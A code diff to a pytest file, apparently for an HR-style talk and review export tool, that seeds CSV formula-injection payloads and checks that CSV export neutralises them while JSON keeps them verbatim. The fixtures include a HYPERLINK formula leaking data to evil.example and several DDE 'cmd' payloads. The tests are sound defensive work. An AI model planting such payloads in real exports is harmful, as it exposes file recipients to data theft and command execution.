@@ -285,60 +285,106 @@ async def test_export_runs_the_same_number_of_queries_for_one_talk_or_many(
     assert one[1] == many[1] == 3  # talks, their actions, their reviews
 
 
-FORMULAS = (
-    '=HYPERLINK("https://evil.example/?leak="&B2,"Click")',
-    "+cmd|' /C calc'!A0",
-    "@SUM(A1:A9)",
-    "-2+3",
-    "\tTAB",
-    "\rCR",
-)
+HOSTILE = {
+    "facts": '=HYPERLINK("https://evil.example/?leak="&B2,"Click")',
+    "consensus": "+cmd|' /C calc'!A0",
+    "private_note": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "employee_view": "-2+3+cmd|' /C calc'!A0",
+    "action": "\t=1+1",
+    "kind": "\r=2+2",
+}
 
 
-async def _seed_formulas(url: str) -> None:
+async def _seed_hostile(url: str) -> None:
     engine = make_engine(url)
     try:
         async with session_scope(engine) as session:
             for sid, manager in (("U0MGR", None), ("U0ANN", "U0MGR")):
                 session.add(
-                    Person(slack_id=sid, name=FORMULAS[2], manager_id=manager,
-                           created_at=NOW, updated_at=NOW)
-                )  # fmt: skip
+                    Person(
+                        slack_id=sid,
+                        name="=cmd",
+                        manager_id=manager,
+                        created_at=NOW,
+                        updated_at=NOW,
+                    )
+                )
                 await session.flush()
-            for n, text in enumerate(FORMULAS, start=1):
-                row = talk("U0ANN", date(2025, 1, n), n, facts=text, consensus=text,
-                           private_note=text)  # fmt: skip
-                session.add(row)
-                await session.flush()
-                session.add(
-                    ActionItem(talk_id=row.id, employee_id="U0ANN", owner_id="U0ANN", text=text,
-                               due_on=TODAY, created_at=NOW)
-                )  # fmt: skip
+            hostile = talk(
+                "U0ANN",
+                date(2025, 1, 10),
+                9,
+                kind=HOSTILE["kind"],
+                facts=HOSTILE["facts"],
+                consensus=HOSTILE["consensus"],
+                private_note=HOSTILE["private_note"],
+                family=Family.REVIEW,
+            )
+            cycle = Cycle(
+                name="2024-Q4",
+                starts_on=date(2024, 10, 1),
+                ends_on=date(2024, 12, 31),
+                review_from=date(2025, 1, 1),
+                review_to=date(2025, 1, 14),
+                created_at=NOW,
+            )
+            session.add_all([hostile, cycle])
+            await session.flush()
+            session.add(
+                Review(
+                    cycle_id=cycle.id,
+                    talk_id=hostile.id,
+                    employee_id="U0ANN",
+                    manager_id="U0MGR",
+                    rating=3,
+                    evidence=HOSTILE["facts"],
+                    decisions="[]",
+                    employee_view=HOSTILE["employee_view"],
+                    created_at=NOW,
+                    updated_at=NOW,
+                )
+            )
+            session.add(
+                ActionItem(
+                    talk_id=hostile.id,
+                    employee_id="U0ANN",
+                    owner_id="U0ANN",
+                    text=HOSTILE["action"],
+                    due_on=TODAY,
+                    status=ActionStatus.OPEN,
+                    created_at=NOW,
+                )
+            )
             await session.commit()
     finally:
         await engine.dispose()
 
 
-def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text_but_json_stays_verbatim(
-    monkeypatch: pytest.MonkeyPatch, database_url: str, capsys: pytest.CaptureFixture[str]
-) -> None:
-    asyncio.run(_seed_formulas(database_url))
+@pytest.fixture
+def hostile(monkeypatch: pytest.MonkeyPatch, database_url: str) -> str:
+    asyncio.run(_seed_hostile(database_url))
     monkeypatch.setenv("DATABASE_URL", database_url)
-
-    rows = list(
-        csv.DictReader(
-            io.StringIO(export(capsys, "--format", "csv", "--include-private"), newline="")
-        )
-    )
-    data = json.loads(export(capsys, "--format", "json", "--include-private"))
-
-    assert [r["facts"] for r in rows] == ["'" + f for f in FORMULAS]
-    for row in rows:
-        for column, cell in row.items():
-            assert not cell.startswith(FORMULAS_STARTS), (column, cell)
-    assert [t["facts"] for t in data["talks"]] == list(FORMULAS)
-    assert [t["private_note"] for t in data["talks"]] == list(FORMULAS)
-    assert [t["actions"][0]["text"] for t in data["talks"]] == list(FORMULAS)
+    return database_url
 
 
-FORMULAS_STARTS = ("=", "+", "-", "@", "\t", "\r")
+def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote(
+    hostile: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    out = export(capsys, "--format", "csv", "--include-private")
+    [row] = list(csv.DictReader(io.StringIO(out, newline="")))
+
+    for field in ("facts", "consensus", "private_note", "employee_view", "kind"):
+        assert row[field] == "'" + HOSTILE[field], field
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
+    [action] = json.loads(row["actions"])  # a JSON cell starts with `[`: kept as it is
+    assert action["text"] == HOSTILE["action"]
+
+
+def test_json_export_keeps_formula_like_text_verbatim(
+    hostile: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    [exported] = json.loads(export(capsys, "--format", "json", "--include-private"))["talks"]
+
+    for field in ("facts", "consensus", "private_note", "employee_view", "kind"):
+        assert exported[field] == HOSTILE[field], field
+    assert exported["actions"][0]["text"] == HOSTILE["action"]
